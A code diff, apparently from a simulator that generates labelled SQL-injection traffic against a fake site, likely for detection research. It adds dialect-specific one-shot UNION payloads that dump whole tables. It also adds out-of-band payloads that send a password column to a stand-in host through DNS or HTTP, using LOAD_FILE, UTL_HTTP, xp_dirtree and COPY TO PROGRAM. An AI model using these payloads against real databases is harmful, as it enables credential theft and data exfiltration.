@@ -126,6 +126,7 @@ function* readTarget(plot: Plot, target: Target, letter: string, clients: readon
       truth.give(target.table, row[0]!, [column], plot.play.now(), `${letter}:${r}`, 'extracted');
     }
   }
+  if (plot.outOfBand) yield* sendAway(plot, clients[0]!, run);
   if (random.chance(0.4)) yield* failedAttempts(plot, clients[0]!, run);
   if (random.chance(0.4)) {
     const names = Object.keys(plot.site.world.tables).sort();
@@ -188,8 +189,14 @@ export function* unionInjection(plot: Plot, which?: string): Act {
   const { random } = plot;
   const { client, run, grammar: g } = prepare(plot, 'sqli-union');
   const target = pickTarget(plot, random.pick([20, 60, 1_000_000]), which ?? random.pick(['agents', 'customers', 'bank_accounts']));
-  yield* findWidth(plot, client, run);
+  if (plot.knowsWidth) yield* send(client, run.point === 'search' ? plot.site.search(run.base) : plot.site.status(run.base), 0);
+  else yield* findWidth(plot, client, run);
   if (random.chance(0.5)) yield* failedAttempts(plot, client, run);
+  if (plot.oneShot) {
+    yield* unionAtOnce(plot, client, run, { ...target, rows: target.table.rows });
+    plot.truth.phase('sqli-union').success = true;
+    return;
+  }
   const whole = target.rows.length === target.table.rows.length;
   const canCut = g.name === 'postgresql' || g.name === 'mysql' || g.name === 'sqlite';
   const read = canCut ? target : { ...target, rows: target.table.rows };
@@ -229,6 +236,73 @@ function* findWidth(plot: Plot, client: Client, run: Run): Act {
   }
 }
 
+/** The rows as one text of an aggregate function, in the answer to one request. */
+function* unionAtOnce(plot: Plot, client: Client, found: Run, target: Target): Act {
+  const { random } = plot;
+  const run: Run = found.point === 'search' ? { ...found, base: random.text(5, 'xyzq') } : found;
+  const { grammar: g } = run;
+  const between = random.text(6, 'bcdfgh');
+  const at = target.columns.map(c => target.table.column(c));
+  const gap = g.literal(between);
+  const row = g.join(target.columns.flatMap((c, i) => [...(i ? [gap] : []), g.wrap(c)]));
+  const texts = target.rows.map(r => at.map(i => r[i] ?? ' ').join(between));
+  const from = ` FROM ${qualify(g, target.table.name)}`;
+  const parts = (inner: string): string => g.join([g.literal(run.open), inner, g.literal(run.close)]);
+  const forms: Record<Grammar['name'], readonly [expression: string, from: string, text: string]> = {
+    postgresql: [parts(`(SELECT STRING_AGG(${row},CHR(10))${from})`), '', texts.join('\n')],
+    mysql: [parts(`JSON_ARRAYAGG(${row})`), from, `[${texts.map(t => JSON.stringify(t)).join(', ')}]`],
+    mssql: [parts(`(SELECT STRING_AGG(CAST(${row} AS NVARCHAR(MAX)),CHAR(10))${from})`), '', texts.join('\n')],
+    oracle: [parts(`(SELECT LISTAGG(${row},CHR(10)) WITHIN GROUP (ORDER BY 1)${from})`), ' FROM DUAL', texts.join('\n')],
+    sqlite: [parts(`JSON_GROUP_ARRAY(${row})`), from, `[${texts.map(t => JSON.stringify(t)).join(',')}]`],
+  };
+  const [expression, tail, text] = forms[g.name];
+  yield* send(
+    client,
+    unionCall(plot, run, expression, tail, [`${run.open}${text}${run.close}`], { table: target.table, rows: target.rows, columns: target.columns }),
+    haste(random, SECOND),
+  );
+  for (const r of target.rows)
+    plot.truth.extracted(
+      'U',
+      target.table.name,
+      target.columns,
+      at.map(i => r[i] ?? null),
+    );
+}
+
+const qualify = (g: Grammar, name: string): string =>
+  ({ postgresql: `public.${name}`, mssql: `quote.dbo.${name}`, oracle: `QUOTE.${name.toUpperCase()}`, mysql: `quote.${name}`, sqlite: name })[g.name];
+
+/** Values sent away by name server or web request: the site answers as always, and what went out nobody here can see. */
+function* sendAway(plot: Plot, client: Client, run: Run): Act {
+  const { random, site } = plot;
+  const g = run.grammar;
+  const zone = `${random.text(8)}.oob.example.net`;
+  const cell = g.nth('password', 'agents', 'login', 0);
+  const inline: Partial<Record<Grammar['name'], string>> = {
+    mysql: `LOAD_FILE(${g.join([g.literal('\\\\'), `HEX(${cell})`, g.literal(`.${zone}\\a`)])}) IS NOT NULL`,
+    oracle: `UTL_HTTP.REQUEST('http://${zone}/'||${cell}) IS NOT NULL`,
+  };
+  const second: Partial<Record<Grammar['name'], string>> = {
+    mssql: `DECLARE @h VARCHAR(1024);SET @h='\\\\'+${cell}+'.${zone}\\a';EXEC master..xp_dirtree @h`,
+    postgresql: `COPY (SELECT ${cell}) TO PROGRAM 'nslookup -type=txt x.${zone}'`,
+  };
+  const a = inline[g.name];
+  const b = second[g.name];
+  for (let i = 0; i < 3; i++) {
+    const text = a
+      ? run.point === 'search'
+        ? `${run.base}%' AND ${a} AND '${run.literal}%'='${run.literal}`
+        : `${run.base} AND ${a}`
+      : b
+        ? `${run.base}${run.point === 'search' ? "%'" : ''};${b}${run.grammar.comment}${random.text(4)}`
+        : null;
+    if (text === null) return;
+    const nothing: Injected = { does: 'filter', holds: false };
+    yield* send(client, run.point === 'search' ? site.search(text, nothing, run.base) : site.status(text, nothing, run.base), haste(random, 400_000));
+  }
+}
+
 /** Show the target's rows, `step` a request: the whole table without a window when it fits. */
 function* unionRows(plot: Plot, client: Client, found: Run, target: Target, step: number, pace: number): Act {
   const { random } = plot;
@@ -240,9 +314,7 @@ function* unionRows(plot: Plot, client: Client, found: Run, target: Target, step
   const at = target.columns.map(c => target.table.column(c));
   const line = (row: Row): string => `${run.open}${at.map(i => row[i] ?? ' ').join(between)}${run.close}`;
   const { name } = target.table;
-  const qualified = { postgresql: `public.${name}`, mssql: `quote.dbo.${name}`, oracle: `QUOTE.${name.toUpperCase()}`, mysql: `quote.${name}`, sqlite: name }[
-    g.name
-  ];
+  const qualified = qualify(g, name);
   const whole = step >= target.table.rows.length;
   for (let first = 0; first < target.rows.length; first += step) {
     const chunk = target.rows.slice(first, first + step);
